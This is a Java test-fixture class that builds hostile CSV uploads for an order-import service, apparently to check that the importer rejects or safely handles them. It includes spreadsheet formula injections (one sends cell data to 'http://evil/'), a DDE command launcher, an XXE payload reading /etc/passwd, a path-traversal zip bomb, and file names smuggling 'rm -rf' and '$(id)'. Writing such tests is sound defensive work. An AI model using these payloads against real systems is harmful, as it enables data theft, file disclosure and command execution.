package io.entrepot.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Files that a partner drops; all lie there before the first one is looked for. */
final class FileCases {
    /**
     * A row.
     *
     * @param cause of its incident; null when its orders must come in
     * @param says what the incident's message contains, or the numbers of the orders
     */
    record Case(String id, String title, String file, byte[] content, String cause, List<String> says) {
        /** Its name is too long for the folder of read files, where names begin with the time. */
        boolean stays() {
            return file.length() > 230;
        }

        @Override
        public String toString() {
            return id + " " + title;
        }
    }

    static final String HEADER =
            "order_no,ordered_at,name,phone,address,country,province,city,sku,product,quantity,unit_price,total,currency,paid_at,note\n";

    private static final int MB = 1024 * 1024;
    private static final String EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

    private FileCases() {}

    static Stream<Case> all() {
        return Stream.of(
                kept(
                        "G4-48",
                        "formulas in the texts",
                        "formulas",
                        row("F-1", "=HYPERLINK(\"\"http://evil/?\"\"&A1)")
                                + row("F-2", "=cmd|'/c calc'!A0")
                                + row("F-3", "@SUM(1)")
                                + row("F-4", "+1")
                                + row("F-5", "\t-1"),
                        "F-1",
                        "F-2",
                        "F-3",
                        "F-4",
                        "F-5"),
                bad(
                        "G4-49",
                        "quote that never ends",
                        HEADER + row("Q-1", "x") + "Q-2,\"" + "a\n".repeat(1000),
                        "line 3"),
                bad("G4-49", "quote in the middle", HEADER + row("Q-1", "x").replace("\"x\"", "\"x\"x"), "line 2"),
                bad("G4-49", "field of 5 MB", HEADER + row("L-1", "x".repeat(5 * MB)), "line 2"),
                bad("G4-49", "one line of 5 MB", "x".repeat(5 * MB), "CSV"),
                bad("G4-49", "two million rows", "a\n" + "1\n".repeat(2_000_000), "cells"),
                bad(
                        "G4-49",
                        "5000 columns",
                        IntStream.range(0, 5000).mapToObj(i -> "c" + i).collect(Collectors.joining(",")) + "\n",
                        "line 1"),
                bad("G4-49", "no header", row("H-1", "x"), "line 1: two columns"),
                bad("G4-49", "header twice", HEADER.replace("note", "name"), "two columns are named 'name'"),
                bad("G4-49", "too few fields", HEADER + "T-1,x\n", "line 2: the row has 2 fields"),
                bad("G4-49", "nothing but blanks", " \n \n", "has no name"),
                kept("G4-49", "lines that end with CR", "cr", row("R-1", "x").replace('\n', '\r'), "R-1"),
                bad("G4-49", "NUL in a field", HEADER + row("N\0-1", "x"), "/platformOrderId"),
                bad(
                        "G4-50",
                        "number damaged by a spreadsheet",
                        HEADER + row("1.23457E+11", "x"),
                        "damaged by a spreadsheet"),
                bad("G4-56", "a web page", "<!DOCTYPE html><html>" + Victim.PHONE + "</html>\n", "no table"),
                bad(
                        "G4-56",
                        "a program",
                        new byte[] {'M', 'Z', (byte) 0x90, 0, 3, 0, 0, 0, 4, 0, (byte) 0xff, (byte) 0xff},
                        "UTF-8"),
                bad("G4-52", "a zip bomb", zip(), "UTF-8"),
                bad("G4-56", "what virus scanners look for", EICAR, "no table"),
                bad(
                        "G4-45",
                        "XML that reads files",
                        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
                        "no table"),
                bad("G4-47", "UTF-16", (HEADER + row("U-1", "x")).getBytes(StandardCharsets.UTF_16), "UTF-16"),
                bad("G3-35", "half UTF-8, half GBK", broken(), "neither UTF-8"),
                named("G4-53", "a;rm -rf ~.csv"),
                named("G4-53", "$(id).csv"),
                named("G4-53", "${date:now:yyyy}.csv"),
                named("G4-53", "#{7*7}'\"`<script>.CSV"),
                named("G4-53", "订单.csv"),
                named("G4-53", "con.csv"),
                named("G4-53", "n".repeat(251) + ".csv"));
    }

    static byte[] good(String order) {
        return bytes(HEADER + row(order, "x"));
    }

    private static Case named(String id, String name) {
        String order = "NAME-" + Integer.toHexString(name.hashCode());
        String title = "file name " + (name.length() < 40 ? name : "of " + name.length() + " characters");
        return new Case(id, title, name, bytes(HEADER + row(order, "x")), null, List.of(order));
    }

    private static Case kept(String id, String title, String file, String rows, String... orders) {
        String header = rows.endsWith("\r") ? HEADER.replace('\n', '\r') : HEADER;
        return new Case(id, title, file + ".csv", bytes(header + rows), null, List.of(orders));
    }

    private static Case bad(String id, String title, String content, String... says) {
        return bad(id, title, bytes(content), says);
    }

    private static Case bad(String id, String title, byte[] content, String... says) {
        return new Case(id, title, title.replace(' ', '-') + ".csv", content, "UNREADABLE", List.of(says));
    }

    private static String row(String number, String note) {
        return number + ",2026-11-20 10:00:00," + Victim.NAME + "," + Victim.PHONE + "," + Victim.LINE
                + ",CN,浙江省,杭州市,TEE-M,T恤,1,59.00,59.00,CNY,2026-11-20 10:00:00,\"" + note + "\"\n";
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] broken() {
        byte[] text = bytes(HEADER + row("B-1", "x"));
        byte[] all = Arrays.copyOf(text, text.length + 2);
        all[text.length] = (byte) 0xff;
        all[text.length + 1] = (byte) 0xff;
        return all;
    }

    private static byte[] zip() {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new java.util.zip.ZipOutputStream(bytes)) {
            var entry = new java.util.zip.ZipEntry("../../orders.csv");
            entry.setTime(0);
            zip.putNextEntry(entry);
            for (int i = 0; i < 100; i++) {
                zip.write(new byte[MB]);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }
}
